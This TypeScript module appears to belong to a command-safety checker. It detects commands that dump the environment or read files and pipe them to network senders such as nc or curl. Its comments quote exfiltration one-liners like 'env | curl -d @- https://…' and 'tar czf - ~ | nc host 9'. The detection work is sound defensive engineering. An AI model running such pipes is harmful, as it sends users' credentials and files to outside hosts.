import type { SimpleCommand } from '../shell/commandLine';
import { powerShellCmdlet } from '../shell/powershellCmdlets';
import { programName } from '../shell/programName';
import { programCall } from '../programs/programModel';
import { programsWith } from '../programs/vocabulary';
import type { Effect } from '../../terms/effect';

/** Programs that send data over the network: what they read on stdin, when they stand later in a pipe. */
const NETWORK_SENDERS = programsWith('sends');

/** PowerShell's ways to list the environment drive (`Get-ChildItem env:`, `dir env:`, `gi env:*`). */
const ENVIRONMENT_DRIVE_READERS = new Set(['get-childitem', 'get-item', 'get-content']);

/**
 * The name pattern a PowerShell command reads from the environment drive (`env:*TOKEN*` gives `*TOKEN*`, `env:`
 * gives `*`), or `undefined` when it reads no `env:` path.
 */
export function environmentDrivePattern(command: SimpleCommand): string | undefined {
	if (!ENVIRONMENT_DRIVE_READERS.has(powerShellCmdlet(programName(command.argv[0] ?? '')))) {
		return undefined;
	}
	const path = command.argv.slice(1).find((word) => /^env:/i.test(word));
	return path === undefined ? undefined : path.slice(4).replace(/^[\\/]/, '') || '*';
}

/**
 * Whether a command prints the whole environment: `env`, `printenv`, `set`, `export -p`, `declare -x`, PowerShell's
 * `Get-ChildItem env:` and `[Environment]::GetEnvironmentVariables()`.
 */
export function dumpsEnvironment(command: SimpleCommand): boolean {
	const [name = '', ...args] = command.argv.map((word, at) =>
		at === 0 ? programName(word) : word,
	);
	if (command.dialect === 'powershell') {
		const pattern = environmentDrivePattern(command);
		if (pattern !== undefined) {
			return pattern === '*';
		}
		if (/^\[(?:System\.)?Environment\]::GetEnvironmentVariables$/i.test(command.argv[0] ?? '')) {
			return true;
		}
	}
	switch (name) {
		case 'env':
		case 'printenv':
			return args.every((word) => word.startsWith('-'));
		// In PowerShell `set` is `Set-Variable`, which prints nothing.
		case 'set':
			return args.length === 0 && command.dialect !== 'powershell';
		// `export` and `declare -x` alone list every exported variable with its value, as `export -p` does.
		case 'export':
			return args.every((word) => /^-[a-zA-Z]*p/.test(word));
		case 'declare':
		case 'typeset':
			return args.length > 0 && args.every((word) => /^-[a-zA-Z]*[px]/.test(word));
		default:
			return false;
	}
}

/** The later stage of the same pipe that sends what it reads over the network, if any (`… | nc host 9`). */
export function networkSenderAfter(
	command: SimpleCommand,
	all: readonly SimpleCommand[],
): SimpleCommand | undefined {
	const pipeline = command.pipeline;
	return pipeline
		? all.find(
				(other) =>
					other.pipeline?.id === pipeline.id &&
					other.pipeline.stage > pipeline.stage &&
					other.origin === command.origin &&
					NETWORK_SENDERS.has(programName(other.argv[0] ?? '')),
			)
		: undefined;
}

/**
 * What a stage reads, when a later stage of its pipe sends its output over the network, is sent: `tar czf - ~ | nc
 * host 9` sends the home folder (and every credential in it), where `tar czf home.tgz ~` only reads it.
 */
export function sentThroughPipe(
	effects: readonly Effect[],
	command: SimpleCommand,
	all: readonly SimpleCommand[],
): Effect[] {
	const sender = effects.some((effect) => effect.kind === 'read' && effect.path !== undefined)
		? networkSenderAfter(command, all)
		: undefined;
	return sender
		? effects.map((effect) =>
				effect.kind === 'read' && effect.path !== undefined
					? {
							...effect,
							kind: 'send',
							action: `${effect.action} and sends over the network (through \`${sender.text}\`)`,
						}
					: effect,
			)
		: [...effects];
}

/**
 * `env | curl -d @- https://…`: the whole environment, with every token in it, sent over the network by a later stage
 * of the same pipe. Printing the environment alone is everyday debugging and stays quiet.
 */
export function environmentSent(
	command: SimpleCommand,
	index: number,
	all: readonly SimpleCommand[],
): Effect[] {
	if (!dumpsEnvironment(command)) {
		return [];
	}
	const sender = networkSenderAfter(command, all);
	return sender
		? [
				programCall(command, programName(command.argv[0] ?? ''), index).effect({
					kind: 'send',
					subject: 'credentials',
					action: `sends the whole environment, with any credentials in it, over the network (through \`${sender.text}\`)`,
				}),
			]
		: [];
}
